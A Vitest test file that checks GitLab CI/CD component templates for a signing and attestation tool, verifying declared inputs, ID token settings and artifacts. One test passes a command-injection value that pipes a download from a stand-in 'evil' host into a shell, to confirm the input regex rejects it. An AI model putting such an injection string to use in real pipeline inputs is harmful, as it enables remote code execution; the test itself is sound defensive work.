import { readFile } from "node:fs/promises";
import { dirname, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { parseAllDocuments } from "yaml";

// The component format (GitLab docs, "CI/CD components"): a `spec:` document
// declaring `inputs:`, then `---`, then the jobs using `$[[ inputs.x ]]`.
// GitLab rejects an include that passes an undeclared input or omits one
// without a default; gitlab-ci-local does not check that, so it is checked here.

const here = dirname(fileURLToPath(import.meta.url));
const root = resolve(here, "../../..");

interface InputSpec {
  default?: unknown;
  regex?: string;
  description?: string;
}

async function component(name: "attest" | "verify") {
  const text = await readFile(resolve(here, `../templates/${name}.yml`), "utf8");
  const documents = parseAllDocuments(text);
  expect(documents).toHaveLength(2);
  const header = documents[0]!.toJS() as { spec: { inputs: Record<string, InputSpec> } };
  const jobs = documents[1]!.toJS() as Record<string, Record<string, unknown>>;
  return { text, inputs: header.spec.inputs, jobs };
}

async function exampleIncludes() {
  const text = await readFile(resolve(root, "examples/gitlab/.gitlab-ci.yml"), "utf8");
  const pipeline = parseAllDocuments(text)[0]!.toJS() as { include: { component: string; inputs: Record<string, unknown> }[] };
  return pipeline.include;
}

describe("CI/CD component templates", () => {
  for (const name of ["attest", "verify"] as const) {
    it(`${name}.yml uses exactly the inputs it declares, each described`, async () => {
      const { text, inputs } = await component(name);
      const used = new Set([...text.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
      expect([...used].sort()).toEqual(Object.keys(inputs).sort());
      for (const [input, spec] of Object.entries(inputs)) {
        expect(spec.description, `${input} has a description`).toBeTruthy();
      }
    });
  }

  it("the attest job requests the ID token the adapter reads and keeps the bundle", async () => {
    const { jobs } = await component("attest");
    const job = jobs["provenant-attest"]!;
    expect(job.id_tokens).toEqual({ PROVENANT_ID_TOKEN: { aud: "$[[ inputs.token_audience ]]" } });
    expect(job.artifacts).toMatchObject({ paths: ["$[[ inputs.bundle ]]"] });
    expect(String(job.script)).toContain("--platform gitlab");
  });

  it("key variable inputs only accept variable names", async () => {
    for (const [name, input] of [["attest", "key_variable"], ["verify", "public_key_variable"]] as const) {
      const { inputs } = await component(name);
      const pattern = new RegExp(inputs[input]!.regex!);
      expect(pattern.test("PROVENANT_SIGNING_KEY")).toBe(true);
      expect(pattern.test("X}; curl evil | sh; #")).toBe(false);
    }
  });

  it("the example pipeline passes only declared inputs and every required one", async () => {
    for (const include of await exampleIncludes()) {
      const name = /\/(attest|verify)@/.exec(include.component)?.[1] as "attest" | "verify";
      expect(name, include.component).toBeDefined();
      const { inputs } = await component(name);
      for (const given of Object.keys(include.inputs)) expect(Object.keys(inputs), `${name} input ${given}`).toContain(given);
      for (const [input, spec] of Object.entries(inputs)) {
        if (spec.default === undefined) expect(Object.keys(include.inputs), `${name} needs ${input}`).toContain(input);
      }
    }
  });
});
